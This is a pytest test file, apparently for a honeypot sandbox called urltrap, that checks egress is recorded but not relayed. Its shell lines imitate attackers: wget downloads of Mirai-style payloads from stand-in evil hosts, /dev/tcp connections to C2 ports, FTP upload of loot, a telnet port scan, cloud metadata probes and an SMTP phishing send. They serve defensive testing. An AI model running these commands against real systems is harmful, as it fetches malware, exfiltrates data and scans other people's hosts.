"""What a box asks for on the network, for real: each protocol through a box's own wire.

Skipped, visibly, where boxes cannot be made.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from tests.support.boxes import boxes, run, why_not
from tests.support.waiting import eventually

from urltrap.egress.server import FetcherServer
from urltrap.egress.switch import SOCKET_FILE
from urltrap.journal import JournalReader
from urltrap.model.capture import Capture, FetchRequest
from urltrap.model.event import WireScanned, WireSeen
from urltrap.quarantine import Quarantine

pytestmark = pytest.mark.skipif(bool(why_not()), reason=f"no boxes on this machine: {why_not()}")


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with boxes(tmp_path_factory.mktemp("uplink")) as folder, _uplink(folder):
        yield folder


class Outside:
    """The fetcher as far as boxes see it: what it was asked, and the payload that it got for each URL."""

    def __init__(self, data: Path) -> None:
        self.data = data
        self.asked: list[FetchRequest] = []
        self.outcome = "fetched"
        self.more = b""
        self._quarantine = Quarantine(data / "quarantine")
        self._before = len(self._all())

    async def fetch(self, request: FetchRequest) -> Capture:
        self.asked.append(request)
        url = request.url.decode()
        if self.outcome != "fetched":
            return Capture(url=url, at=datetime.now(UTC), outcome=self.outcome)  # type: ignore[arg-type]
        kept = self._quarantine.put(b"PAYLOAD of " + request.url + b"\n" + self.more)
        return Capture(url=url, at=datetime.now(UTC), outcome="fetched", status=200, reason=b"OK",
                       headers=[(b"Content-Type", b"text/x-sh"), (b"Transfer-Encoding", b"chunked")],
                       size=kept.size, sha256=kept.sha256)  # fmt: skip

    def events(self) -> list[WireSeen | WireScanned]:
        """What was recorded since this fetcher is there."""
        return self._all()[self._before :]

    def _all(self) -> list[Any]:
        with JournalReader(self.data / "journal") as reader:
            return [event for _, event in reader.read("uplink")]

    async def recorded(self, count: int) -> list[Any]:
        """The same, once there are so many."""
        await eventually(lambda: len(self.events()) >= count)
        return self.events()


_UPLINK = """
import asyncio, pathlib, structlog, sys
from urltrap.model.settings import Settings
from urltrap.sandbox.uplink.authority import Authority
from urltrap.sandbox.uplink.process import run_uplink
structlog.configure(logger_factory=structlog.PrintLoggerFactory(sys.stderr))
from urltrap.sandbox.uplink import internet
internet.SCAN_SECONDS = 0.5
data = pathlib.Path(sys.argv[1])
async def main():
    await run_uplink(Settings(), data, Authority.of(data / "keys"), ready=lambda: print("ready", flush=True),
                     stop=asyncio.Event())
asyncio.run(main())
"""


@contextmanager
def _uplink(data: Path) -> Iterator[subprocess.Popen[str]]:
    process = subprocess.Popen([sys.executable, "-c", _UPLINK, str(data)], stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    try:
        with process.stdout:
            assert process.stdout.readline() == "ready\n"
        yield process
    finally:
        process.kill()
        process.wait()


@pytest.fixture
async def outside(data: Path) -> AsyncIterator[Outside]:
    fetcher = Outside(data)
    async with FetcherServer(data / SOCKET_FILE, fetcher.fetch):
        yield fetcher


async def _sh(data: Path, line: str, address: str = "192.0.2.1") -> bytes:
    _, out, err, _ = await run(data, "/bin/bash", "-c", line, address=address)
    return out + err


async def test_a_download_by_name_brings_what_the_fetcher_got(data: Path, outside: Outside) -> None:
    out = await _sh(data, "cd /tmp; busybox wget -q -O x http://evil.example.net/a.sh?b=c; cat x")
    assert out == b"PAYLOAD of http://evil.example.net/a.sh?b=c\n"
    name, seen = await outside.recorded(2)
    assert (name.protocol, name.host, name.method) == ("dns", "evil.example.net", "A")
    assert (seen.protocol, seen.url, seen.method) == ("http", b"http://evil.example.net/a.sh?b=c", "GET")
    assert seen.argv[:2] == [b"busybox", b"wget"] and seen.argv[-1] == b"http://evil.example.net/a.sh?b=c"
    assert (seen.dst_ip, seen.dst_port, seen.outcome) == (name.outcome, 80, "fetched")
    assert outside.asked[0].client == "busybox-wget" and not outside.asked[0].follow_redirects


async def test_a_download_from_an_address_and_a_port_is_asked_for_there(data: Path, outside: Outside) -> None:
    out = await _sh(data, "busybox wget -q -O - http://198.51.100.9:8080/bins/mirai.x86")
    assert out == b"PAYLOAD of http://198.51.100.9:8080/bins/mirai.x86\n"
    (seen,) = await outside.recorded(1)
    assert (seen.host, seen.dst_ip, seen.dst_port) == ("", "198.51.100.9", 8080)


async def test_bash_speaks_http_by_itself_and_hidden_words_are_seen_as_what_they_are(
    data: Path, outside: Outside
) -> None:
    script = (
        "h=$(printf 'dt.evil%s' .org); exec 3<>/dev/tcp/$h/80;"
        "printf 'GET /dev%s HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n' tcp $h >&3; tail -n 1 <&3"
    )
    assert await _sh(data, script) == b"PAYLOAD of http://dt.evil.org/devtcp\n"
    seen = (await outside.recorded(2))[-1]
    assert seen.url == b"http://dt.evil.org/devtcp" and seen.argv[0] == b"/bin/bash"


async def test_what_is_posted_is_kept_and_not_passed_on(data: Path, outside: Outside) -> None:
    out = await _sh(data, "busybox wget -q -O - --post-data user=root http://c2.evil.org/gate.php")
    seen = (await outside.recorded(2))[-1]
    assert (seen.method, seen.first, seen.size, seen.outcome) == ("POST", b"user=root", 9, "not-relayed")
    assert out == b"" and outside.asked == []


async def test_where_nothing_may_be_fetched_the_server_has_no_such_page(data: Path, outside: Outside) -> None:
    outside.outcome = "recorded"
    out = await _sh(data, "busybox wget -q -O - http://quiet.evil.org/x")
    assert b"404" in out
    assert (await outside.recorded(2))[-1].outcome == "recorded"


async def test_a_host_that_does_not_answer_the_fetcher_breaks_off(data: Path, outside: Outside) -> None:
    outside.outcome = "connect-failed"
    out = await _sh(data, "busybox wget -O - http://dead.evil.org/x || echo failed")
    assert out.startswith(b"failed\n") and b"404" not in out


async def test_bytes_of_no_known_protocol_are_kept_and_nobody_speaks(data: Path, outside: Outside) -> None:
    await _sh(data, "exec 3<>/dev/tcp/198.51.100.77/4444; echo hello-c2 >&3; exec 3>&-")
    (seen,) = await outside.recorded(1)
    assert (seen.protocol, seen.url, seen.first) == ("tcp", b"tcp://198.51.100.77:4444", b"hello-c2\n")


async def test_a_datagram_is_kept_with_where_it_went(data: Path, outside: Outside) -> None:
    await _sh(data, "echo x > /dev/udp/198.51.100.50/5353")
    (seen,) = await outside.recorded(1)
    assert (seen.protocol, seen.url, seen.first) == ("udp", b"udp://198.51.100.50:5353", b"x\n")


async def test_names_that_cannot_be_are_not_and_any_name_server_is_asked(
    data: Path, outside: Outside
) -> None:
    out = await _sh(
        data,
        "busybox nslookup -type=a no.such.toplevelname 9.9.9.9; busybox nslookup -type=a a.evil.org 9.9.9.9",
    )
    assert b"NXDOMAIN" in out and b"a.evil.org" in out
    first, second = await outside.recorded(2)
    assert (first.outcome, second.dst_ip, second.dst_port) == ("none", "9.9.9.9", 53)
    assert second.outcome.encode() in out and second.argv[:2] == [b"busybox", b"nslookup"]


async def test_a_scan_is_counted_and_not_answered(data: Path, outside: Outside) -> None:
    one = "busybox nc -w 1 203.0.$j.$i 23 </dev/null && echo open"
    script = f"for j in 0 1; do for i in {{1..27}}; do ({one}) & done; wait; done"
    out = await _sh(data, script, address="192.0.2.77")
    await eventually(lambda: any(isinstance(event, WireScanned) for event in outside.events()))
    scan = next(event for event in outside.events() if isinstance(event, WireScanned))
    assert out.count(b"open") <= 25 and scan.count >= 30
    assert scan.ports == [23] and len(scan.addresses) > 5


async def test_private_networks_and_the_clouds_metadata_are_silent(data: Path, outside: Outside) -> None:
    one = 'timeout 0.3 bash -c "exec 3<>/dev/tcp/$a/80" && echo OPEN'
    script = f"for a in 169.254.169.254 10.0.0.1 172.17.0.1; do ({one}) & done; wait"
    assert b"OPEN" not in await _sh(data, script)
    assert outside.events() == []


async def test_no_packet_of_a_box_is_seen_on_an_interface_of_this_machine(
    data: Path, outside: Outside
) -> None:
    def counters() -> dict[str, list[str]]:
        lines = Path("/proc/net/dev").read_text().splitlines()[2:]
        return {line.split(":")[0].strip(): line.split(":")[1].split() for line in lines}

    before = counters()
    await _sh(data, "busybox wget -q -O - http://count.evil.org/x; echo x > /dev/udp/198.51.100.51/1")
    await outside.recorded(3)
    after = counters()
    assert set(before) == set(after), "a box's wire is no link of ours"
    sent = {name: int(after[name][9]) - int(before[name][9]) for name in before if name != "lo"}
    assert all(count == 0 for count in sent.values()), sent


async def test_files_come_by_ftp(data: Path, outside: Outside) -> None:
    line = "cd /tmp; busybox ftpget -u anonymous -p a@b ftp.evil.org out.bin pub/bin.x86 && cat out.bin"
    assert await _sh(data, line) == b"PAYLOAD of ftp://ftp.evil.org/pub/bin.x86\n"
    seen = (await outside.recorded(2))[-1]
    assert (seen.protocol, seen.url, seen.first) == (
        "ftp",
        b"ftp://ftp.evil.org/pub/bin.x86",
        b"anonymous:a@b",
    )
    assert seen.argv[:2] == [b"busybox", b"ftpget"] and outside.asked[0].username == b"anonymous"


async def test_what_is_put_by_ftp_is_kept(data: Path, outside: Outside) -> None:
    await _sh(data, "echo secret > /tmp/up; busybox ftpput -u a -p b ftp2.evil.org loot.txt /tmp/up")
    seen = (await outside.recorded(2))[-1]
    assert (seen.method, seen.url, seen.first) == ("STOR", b"ftp://ftp2.evil.org/loot.txt", b"secret\n")
    assert outside.asked == []


async def test_files_come_by_tftp_in_many_blocks_and_ones_that_are_not_there_do_not(
    data: Path, outside: Outside
) -> None:
    outside.more = b"x" * 3000
    line = "cd /tmp; busybox tftp -g -r arm7 -l a7 198.51.100.21 2>/dev/null && cat a7"
    assert await _sh(data, line) == b"PAYLOAD of tftp://198.51.100.21/arm7\n" + outside.more
    (seen,) = await outside.recorded(1)
    assert (seen.protocol, seen.url, seen.client) == ("tftp", b"tftp://198.51.100.21/arm7", "busybox-tftp")
    outside.outcome = "not-found"
    assert b"not found" in (await _sh(data, "busybox tftp -g -r gone 198.51.100.21")).lower()


async def test_mail_is_taken_and_goes_nowhere(data: Path, outside: Outside) -> None:
    script = (
        "exec 3<>/dev/tcp/mx.evil.org/25; read -r l <&3; echo $l;"
        "printf 'HELO a\\r\\nMAIL FROM:<s@a.example>\\r\\nRCPT TO:<v@b.example>\\r\\nDATA\\r\\n' >&3;"
        "printf 'Subject: x\\r\\n\\r\\nhttp://phish.example/\\r\\n.\\r\\nQUIT\\r\\n' >&3; cat <&3"
    )
    out = await _sh(data, script)
    assert out.startswith(b"220 mx.evil.org ESMTP") and b"queued" in out and out.endswith(b"Bye\r\n")
    seen = (await outside.recorded(2))[-1]
    assert seen.url == b"smtp://mx.evil.org" and b"RCPT TO:<v@b.example>" in seen.first
    assert b"http://phish.example/" in seen.first


async def test_https_is_read_with_the_name_that_the_client_asks_for(data: Path, outside: Outside) -> None:
    out = await _sh(data, "busybox wget -q --no-check-certificate -O - https://secure.evil.org/p.sh")
    assert out == b"PAYLOAD of https://secure.evil.org/p.sh\n"
    seen = (await outside.recorded(2))[-1]
    assert (seen.protocol, seen.host, seen.dst_port) == ("https", "secure.evil.org", 443)


async def test_a_ping_is_seen(data: Path, outside: Outside) -> None:
    out = await _sh(data, "busybox ping -c 1 -W 2 198.51.100.60")
    if b"permission denied" in out.lower():
        pytest.skip("this BusyBox pings by raw sockets alone, which boxes have not")
    assert b"1 packets received" in out
    assert (await outside.recorded(1))[0].url.startswith(b"icmp://198.51.100.60")
